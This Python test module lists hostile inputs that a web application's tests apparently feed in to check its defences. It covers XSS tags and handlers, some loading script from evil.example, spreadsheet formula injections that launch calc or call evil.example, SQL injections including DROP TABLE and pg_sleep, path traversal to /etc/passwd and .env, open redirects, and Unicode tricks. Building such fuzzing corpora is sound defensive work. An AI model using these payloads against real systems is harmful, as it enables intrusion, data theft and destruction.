"""Hostile texts, by what they try. Each list is small enough to be read; what multiplies them stands beside them."""

# ruff: noqa: E501 -- lists are read across

# --- script in a page --------------------------------------------------------------------------------------------
# `tripwire` and `data-tripwire` are what the test looks for: code that ran, or an element that came into being.

_ELEMENTS = (
    "<script>tripwire()</script>", "<img src=x onerror=tripwire() data-tripwire>", "<svg onload=tripwire() data-tripwire>",
    "<b data-tripwire>bold</b>", "<iframe srcdoc='<script>parent.tripwire()</script>' data-tripwire>",
    "<a href=javascript:tripwire() data-tripwire>x</a>", "<details open ontoggle=tripwire() data-tripwire>",
    "<input autofocus onfocus=tripwire() data-tripwire>", "<video><source onerror=tripwire() data-tripwire>",
    "<math><mtext><img src=x onerror=tripwire() data-tripwire>", "<template><img data-tripwire></template>",
    "<style>@import '/x'</style><i data-tripwire>", "<base href=//evil.example data-tripwire>",
    "<meta http-equiv=refresh content='0;url=javascript:tripwire()' data-tripwire>",
    "<form action=javascript:tripwire() data-tripwire><button>x</button>", "<object data=javascript:tripwire() data-tripwire>",
    "<svg><animate onbegin=tripwire() attributeName=x dur=1s data-tripwire>", "<body onload=tripwire() data-tripwire>",
    "<svg/onload=tripwire() data-tripwire>", "<ScRiPt>tripwire()</sCrIpT>", "<img src=x onerror='tripwire()' data-tripwire/>",
    "<marquee onstart=tripwire() data-tripwire>x", "<div hx-get=/healthz hx-trigger=load data-tripwire>",
    "<div hx-on:click=tripwire() data-tripwire>x</div>", "<x-tripwire is=button data-tripwire>",
)  # fmt: skip
# What may stand around the place a text is put: an attribute, a comment, a script, a style, a text area.
_BREAKS = ("", '">', "'>", "-->", "</script>", "</textarea>", "</title></style>", "]]>", '"><!--', "</option></select>")
_BARE = (
    "\" onmouseover=tripwire() x=\"", "' onfocus=tripwire() autofocus='", "\" autofocus onfocus=tripwire() data-tripwire=\"",
    "javascript:tripwire()", "JaVaScRiPt:tripwire()", "data:text/html,<script>tripwire()</script>",
    "java&#x09;script:tripwire()", "\\u003cimg src=x onerror=tripwire()\\u003e", "${tripwire()}", "{{ tripwire() }}",
    "{{ 7 * 7 }}-{{ config }}", "{% print(config) %}", "%(tripwire)s", "{tripwire}", "';tripwire();//", "\";tripwire();//",
    "`;tripwire();`", "&lt;img src=x onerror=tripwire()&gt;", "%3Cimg%20src%3Dx%20onerror%3Dtripwire()%3E",
    "<<script>script>tripwire()//<</script>", "<img src=`x`onerror=tripwire() data-tripwire>", "＜img src=x onerror=tripwire()＞",
    "<!--><img src=x onerror=tripwire() data-tripwire>", "<![CDATA[<img data-tripwire>]]>", "<?xml <img data-tripwire>",
    "&#60;img src=x onerror=tripwire() data-tripwire&#62;", "</div></section></main><i data-tripwire>",
    "</template><img data-tripwire>", "<noscript><p title=\"</noscript><img src=x onerror=tripwire() data-tripwire>\">",
    "#{tripwire()}", "<%= tripwire() %>", "@{tripwire()}", "[[${tripwire()}]]", "constructor", "__proto__", "innerHTML",
    "onerror=tripwire()", "<script src=//evil.example/x.js></script>", "<link rel=stylesheet href=//evil.example data-tripwire>",
    "<img src=//evil.example/x.png data-tripwire>", "url(//evil.example/x)", "</style><i data-tripwire>",
    "<plaintext data-tripwire>", "<xmp><i data-tripwire></xmp><i data-tripwire>", "<textarea><i data-tripwire>",
    "<select><option data-tripwire>", "<table><td data-tripwire>", "<p/onclick=tripwire() data-tripwire>", "<img\fsrc=x data-tripwire>",
    "<a href='//evil.example' data-tripwire>",
)  # fmt: skip
XSS = [f"{before}{element}" for before in _BREAKS for element in _ELEMENTS] + list(_BARE)

# --- formulas ----------------------------------------------------------------------------------------------------

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=1+1;\"", "\"=1+1", "'=1+1", ";=1+1", ",=1+1", "|=1+1",
    "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example\")", " =1+1",
)  # fmt: skip

# --- SQL ---------------------------------------------------------------------------------------------------------

SQL = (
    "'", "\"", "''", "';--", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "1 OR 1=1", "1; DROP TABLE event", "1)) OR ((1=1",
    "' UNION SELECT secret_hash FROM session--", "x' AND 1=(SELECT COUNT(*) FROM rate)--", "%", "_", "%%", "%_%", "\\", "\\'",
    "a%' ESCAPE '!", "' || (SELECT amount FROM rate) || '", "'; SELECT pg_sleep(9)--", "1;SELECT pg_sleep(9)", "$$", "$1", ":site",
    "%(site)s", "%s", "{0}", "?", "NULL", "null", "0x27", "CHAR(39)", "/**/", "--", "#", "' HAVING 1=1--", "' ORDER BY 99--",
    "name; ATTACH DATABASE '/tmp/x' AS y", "' AND load_extension('x')--", "randomblob(1000000000)", "1e309", "-1", "0", "00", "+1",
    "1.0", "1e3", "٣", "²", "9" * 30, "-" + "9" * 30, "true", "[]", "{}", "[1]", "a" * 3000, "\ud7ff", "\U0001f4a9", "é" * 200,
    "2026-13", "2026-1", "9999-99", "0000-00", "2026-11'--", "..", "0.0", "x.y", "deadbeef.1", "deadbeef.-1", "deadbeef.99999999999999999",
)  # fmt: skip

# --- paths and redirects -----------------------------------------------------------------------------------------

TRAVERSAL = (
    "../settings.py", "..%2fsettings.py", "%2e%2e/settings.py", "%2e%2e%2fsettings.py", "..%252fsettings.py", "....//settings.py",
    "..\\settings.py", "..%5csettings.py", "%5c..%5csettings.py", "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "./../settings.py",
    "css/../../settings.py", "css/..%2f..%2fsettings.py", "css%2f..%2f..%2f..%2fREADME.md", ".env", ".git/config", "vendor/../../__init__.py",
    "..;/settings.py", "..%00/settings.py", "app.js%00.png", "app.js/../../settings.py", "file:///etc/passwd", "C:%5cwindows%5cwin.ini",
    "%c0%ae%c0%ae/settings.py", "%u002e%u002e/settings.py", "..%c0%afsettings.py", "..%ef%bc%8fsettings.py", "~/settings.py",
    "app.js/", "css", "css/", ".", "..", "/", "%2e", "a" * 300, "a/" * 500, "app.js%0d%0aSet-Cookie:%20x=1",
)  # fmt: skip

REDIRECTS = (
    "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\/evil.example", "\\\\evil.example", "/\\/evil.example",
    "https://evil.example", "http:evil.example", "https:/evil.example", "http:///evil.example", "HTTPS://evil.example", "javascript:alert(1)",
    "data:text/html,x", "vbscript:x", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example", "\t//evil.example", " //evil.example",
    "//evil.example%2f..", "//evil.example/..", "/.//evil.example\\", "//evil.example@localhost", "https://localhost@evil.example",
    "http://localhost.evil.example", "//localhost\\@evil.example", "/\u2044/evil.example", "/\uff0fevil.example", "//\uff45vil.example",
    "/\x00/evil.example", "/ /evil.example", "evil.example", "./evil.example", "../evil.example", "?next=//evil.example", "#//evil.example",
    "//[::1]", "//2130706433", "/\x0b/evil.example", "/\u00a0/evil.example", "ftp://evil.example", "//evil.example:80", "https:\\\\evil.example",
)  # fmt: skip

# --- JSON --------------------------------------------------------------------------------------------------------
# One value each, as it stands in the text of a fact's field `order`; the verdict must be the same in both databases.

JSON_VALUES = (
    "1", "1.0", "1e2", "1E400", "-0", "NaN", "Infinity", "-Infinity", "true", "false", "null", "[]", "{}", "[\"MO-1\"]", "{\"a\": 1}",
    "9007199254740993", "-9007199254740993", "9" * 400, "1e-400", "0x10", "01", "+1", "1.", ".5", "'MO-1'", "MO-1", "undefined",
    r'"\ud800"', r'"\udc00\ud800"', r'"a\u0000b"', r'"\u0000"', '"\x00"', r'"\u202eMO-1"', r'"\u200bMO-1"', r'"\ufeffMO-1"', r'"\u0085"',
    r'"\u2028"', r'"\uffff"', r'"\ufdd0"', r'"\ue000"', r'"e\u0301"', r'"\u212b"', r'"\ufb01"', '""', '" "', '" MO-1"', '"MO-1 "', '"MO\\n1"', '"MO\\t1"',
    '"' + "x" * 65 + '"', '"' + "x" * 2001 + '"', "[" * 20 + "]" * 20, '{"a":' * 20 + "1" + "}" * 20, r'"\x41"', '"unterminated', '"\U0001f4a9"',
    '"MO-1", "order": "MO-2"', '"MO-1", "Order": "MO-2"', '"MO-1", "__proto__": {}', '"MO-1", "": 1', '"MO-1", "rate": "1"', '"MO-1",',
)  # fmt: skip

# --- Unicode: pairs that look alike or fold together, and must stay two codes in both databases ------------------

CONFUSABLES = (
    ("MO-1", "МО-1"),  # Cyrillic
    ("OAK", "ΟAK"),  # Greek
    ("MO-1", "MO‑1"), ("MO-1", "MO–1"), ("MO-1", "MO−1"),  # hyphens and dashes
    ("MO-1", "ＭＯ－１"),  # full width
    ("MO-O", "MO-0"), ("MO-1", "MO-l"), ("MO-1", "MO-I"),  # letters and digits
    ("STRASSE", "STRAßE"), ("strasse", "straße"), ("I", "İ"), ("i", "ı"), ("K", "\u212a"), ("s", "ſ"), ("ss", "ß"),
    ("MO-1", "mo-1"), ("É", "é"), ("Æ", "AE"), ("ﬁ", "fi"), ("σ", "ς"), ("MO-1", "MO-１"), ("MO-1", "MO-١"),
)  # fmt: skip
# Never part of a code: nobody sees them.
INVISIBLE = ("MO\u200b-1", "MO\u200d-1", "\u202eMO-1", "MO-1\u202c", "\u2066MO-1\u2069", "\ufeffMO-1", "MO\u2060-1", "MO-1\u200e", "MO\u00ad-1",
             "MO\u034f-1", "MO\u180e-1", "MO\u3164-1", "MO\U000e0041-1", "MO\ufe0f-1", "MO\u115f-1", "\u2800MO-1")  # fmt: skip

# --- codes that a camera or a hand scanner reads -----------------------------------------------------------------

QR = (
    "javascript:tripwire()", "JAVASCRIPT:tripwire()//", "data:text/html,<script>tripwire()</script>", "http://evil.example/",
    "https://evil.example/S/", "//evil.example/S/", "tel:+33123456789", "sms:123:hello", "mailto:a@evil.example", "intent://x#Intent;end",
    "WIFI:T:WPA;S:x;P:y;;", "BEGIN:VCARD\nEND:VCARD", "file:///etc/passwd", "market://details?id=x", "geo:0,0", "<img src=x onerror=tripwire() data-tripwire>",
    "\x00\x01\x02", "\x1b[2J", "\x1bOP", "\x03", "\x04", "\x08\x08\x08", "\r\n", "\t\t\t", "\x7f", "\x16", "\x1d01", "\x1e\x04", "\ud83d\ude00" * 50,
    "F5", "\x1b", "Ctrl+W", "%", "%00", "{{7*7}}", "' OR 1=1--", "A" * 4000, "0" * 100, "-1", "=1+1", "\u202e\u202d", "\u200b",
)  # fmt: skip
